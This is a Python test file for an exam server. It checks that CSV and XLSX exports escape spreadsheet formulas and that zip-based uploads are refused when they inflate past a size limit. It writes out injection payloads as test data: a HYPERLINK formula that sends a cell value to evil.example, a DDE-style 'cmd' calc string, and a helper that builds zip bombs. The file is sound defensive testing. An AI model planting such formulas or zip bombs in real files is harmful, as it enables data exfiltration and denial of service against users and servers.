"""Exports never write a live formula; zip-based uploads are measured before they are read
(docs/security.md, findings 7, 10 and 11)."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from exam_server.staff.candidate_import import parse_candidates
from exam_server.staff.dashboard import Row, to_csv
from question_bank.exporting import export_bank
from question_bank.importing import parse_bank

TEMPLATE = Path(__file__).resolve().parents[2] / "question_bank" / "templates" / "template-soal.csv"
EVIL = '=HYPERLINK("http://evil.example/?k="&K2,"klik")'


def test_escaping_leaves_numbers_and_plain_text_and_round_trips() -> None:
    from question_bank.spreadsheet_cells import escape_formula, unescape_formula

    for value in ("=1+1", "+62 812", "-cmd|' /C calc'!A0", "@SUM(A1)", "\t=x"):
        assert escape_formula(value) == "'" + value
        assert unescape_formula(escape_formula(value)) == value
    for value in ("-1", "+0,5", "-2.5e3", "Budi", "", "'quoted"):
        assert escape_formula(value) == value
        assert unescape_formula(value) == value
    assert escape_formula(7) == 7


def test_the_attendance_csv_writes_a_formula_name_as_text() -> None:
    """Both the dashboard download and ``tkd dashboard --csv`` write through ``to_csv``."""
    row = Row("DEMO-1", "3201", EVIL, "@Dinas", "Sesi 1", "+Aula", "absent", None, None)
    data = to_csv([row]).decode("utf-8-sig")
    # Semicolons and Bahasa headings by default (docs/committee.md, "CSV").
    [parsed] = list(csv.DictReader(io.StringIO(data), delimiter=";"))
    assert parsed["Nama"] == "'" + EVIL
    assert parsed["Unit kerja"] == "'@Dinas"
    assert parsed["Ruang"] == "'+Aula"


def _bank_with_formulas() -> list:  # type: ignore[type-arg]
    text = TEMPLATE.read_text(encoding="utf-8-sig").splitlines()
    header, first = text[0], text[1]
    # The stem and an option start with "=": a supplied question planting a formula.
    cells = next(csv.reader([first]))
    cells[4] = EVIL
    cells[5] = "=1+1"
    out = io.StringIO()
    csv.writer(out).writerows([next(csv.reader([header])), cells])
    report = parse_bank(out.getvalue().encode(), "bank.csv")
    assert report.ok, report.errors
    return report.items


def test_the_bank_csv_export_escapes_formulas_and_reimports_identically() -> None:
    items = _bank_with_formulas()
    data = export_bank(items, "csv")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0]["soal"].startswith("'=HYPERLINK")
    back = parse_bank(data, "bank.csv")
    assert back.ok, back.errors
    assert [i.content_hash() for i in back.items] == [i.content_hash() for i in items]


def test_the_bank_xlsx_export_stores_formulas_as_text_and_reimports_identically() -> None:
    from openpyxl import load_workbook

    items = _bank_with_formulas()
    data = export_bank(items, "xlsx")
    sheet = load_workbook(io.BytesIO(data))["soal"]
    header = [c.value for c in sheet[1]]
    stem = sheet.cell(row=2, column=header.index("soal") + 1)
    assert stem.data_type == "s" and stem.value.startswith("=HYPERLINK")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    back = parse_bank(data, "bank.xlsx")
    assert back.ok, back.errors
    assert [i.content_hash() for i in back.items] == [i.content_hash() for i in items]


def zip_bomb(inflated: int, name: str = "xl/worksheets/sheet1.xml") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(name, b"<" + b"a" * inflated)
    return out.getvalue()


def test_the_archive_check_refuses_what_inflates_past_the_limit() -> None:
    from question_bank.archive_limits import ArchiveTooLarge, check_archive

    bomb = zip_bomb(65 * 1024 * 1024)
    assert len(bomb) < 200 * 1024
    with pytest.raises(ArchiveTooLarge):
        check_archive(bomb)
    check_archive(zip_bomb(1024))  # a small one passes
    check_archive(b"not a zip")  # for its reader to report


@pytest.mark.parametrize("name", ["bank.xlsx", "bank.zip"])
def test_a_zip_bomb_upload_to_the_bank_is_refused_before_it_is_inflated(name: str) -> None:
    name_inside = "xl/worksheets/sheet1.xml" if name.endswith("xlsx") else "imsmanifest.xml"
    report = parse_bank(zip_bomb(65 * 1024 * 1024, name_inside), name)
    assert not report.ok
    assert "archive_too_large" in {p.code for p in report.errors}


def test_a_zip_bomb_candidate_list_is_refused_before_it_is_inflated() -> None:
    report = parse_candidates(zip_bomb(65 * 1024 * 1024), "peserta.xlsx")
    assert not report.rows
    assert any("terlalu besar" in str(e) for e in report.errors), report.errors
